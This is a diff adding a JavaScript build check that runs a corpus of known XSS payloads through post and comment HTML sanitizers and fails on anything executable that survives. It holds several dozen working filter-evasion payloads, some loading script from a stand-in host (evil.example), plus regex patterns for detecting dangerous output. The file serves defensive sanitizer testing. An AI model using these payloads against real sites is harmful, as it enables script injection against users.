@@ -0,0 +1,135 @@
+/**
+ * Run known XSS payloads through the post and comment sanitizers and fail if anything
+ * executable survives, then check that ordinary formatting comes through unchanged.
+ * Exits non-zero on any failure. Runs as part of `npm run build`, or on its own with
+ * `npm run check-sanitizer` after changing a policy.
+ */
+import { sanitizeHtml, POST_POLICY, COMMENT_POLICY } from './sanitize.js';
+
+// Payloads collected from the OWASP filter evasion cheat sheet and known DOMPurify bypasses
+const XSS_CORPUS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="alert(1)">',
+  '<img """><script>alert(1)</script>">',
+  '<img src=x oNeRrOr=alert`1`>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<div onmouseover="alert(1)">hover</div>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java&#x0A;script:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
+  '<iframe src="http://www.youtube.com/embed/x"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<div style="position:fixed;inset:0">overlay</div>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<img src=`x` onerror=alert(1)>',
+  '<a href="#" onclick="alert(1)">x</a>',
+  '<form id="location"><input name="href"></form>',
+  '<img name="cookie" src="https://example.com/x.png">',
+];
+
+// Any tag in sanitized output matching one of these could run script or restyle the page.
+// Only tags are checked: payloads that come back as escaped text are harmless.
+const DANGEROUS_OUTPUT = [
+  /<\s*(script|style|svg|math|object|embed|form|meta|base|link|template|noscript|textarea|button)\b/i,
+  /\son[a-z]+\s*=/i,
+  /\s(style|srcdoc|formaction|xlink:href)\s*=/i,
+  /(javascript|vbscript|data):/i,
+  /<iframe(?![^>]*\ssrc="https:\/\/www\.youtube\.com\/)/i,
+  /\s(id|name)="(?!user-content-)/i,
+];
+
+// Content each policy must keep, with the exact output expected
+const SAFE_CORPUS = [
+  ['post', '<a href="https://example.com/a">x</a>', '<a href="https://example.com/a">x</a>'],
+  ['post', '<a href="mailto:a@example.com">x</a>', '<a href="mailto:a@example.com">x</a>'],
+  ['post', '<img src="https://example.com/a.png" alt="a">', '<img src="https://example.com/a.png" alt="a">'],
+  ['post', '<pre><code class="language-js">x</code></pre>', '<pre><code class="language-js">x</code></pre>'],
+  ['post', '<h2 id="intro">Intro</h2><a href="#intro">x</a>', '<h2 id="user-content-intro">Intro</h2><a href="#user-content-intro">x</a>'],
+  [
+    'post',
+    '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled> done</li></ul>',
+    '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" checked disabled> done</li></ul>',
+  ],
+  [
+    'post',
+    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
+    '<iframe src="https://www.youtube.com/embed/x" sandbox="allow-scripts allow-same-origin allow-popups allow-presentation" referrerpolicy="strict-origin-when-cross-origin"></iframe>',
+  ],
+  ['comment', '<p><strong>hi</strong> <a href="https://example.com">x</a></p>', '<p><strong>hi</strong> <a href="https://example.com">x</a></p>'],
+];
+
+// Embed hosts come from the environment; pin them so every deployment checks the same policy
+const POLICIES = {
+  post: { ...POST_POLICY, embedHosts: ['www.youtube.com'] },
+  comment: COMMENT_POLICY,
+};
+
+const failures = [];
+
+for (const [policyName, policy] of Object.entries(POLICIES)) {
+  for (const payload of XSS_CORPUS) {
+    const output = sanitizeHtml(payload, policy);
+    const tags = (output.match(/<[^>]*>/g) || []).join(' ');
+    const match = DANGEROUS_OUTPUT.find(pattern => pattern.test(tags));
+
+    if (match) {
+      failures.push({ policyName, payload, output, match });
+    }
+  }
+}
+
+const mangled = [];
+
+for (const [policyName, input, expected] of SAFE_CORPUS) {
+  const output = sanitizeHtml(input, POLICIES[policyName]);
+
+  if (output !== expected) {
+    mangled.push({ policyName, input, output, expected });
+  }
+}
+
+for (const { policyName, payload, output, match } of failures) {
+  console.error(`[${policyName}] ${payload}\n  -> ${output}\n  matched ${match}`);
+}
+
+for (const { policyName, input, output, expected } of mangled) {
+  console.error(`[${policyName}] ${input}\n  -> ${output}\n  expected ${expected}`);
+}
+
+if (failures.length > 0 || mangled.length > 0) {
+  console.error(`${failures.length} payload(s) got through the sanitizer, ${mangled.length} safe input(s) were changed`);
+  process.exit(1);
+}
+
+console.log(`All ${XSS_CORPUS.length} payloads neutralised and ${SAFE_CORPUS.length} safe inputs kept by the post and comment policies`);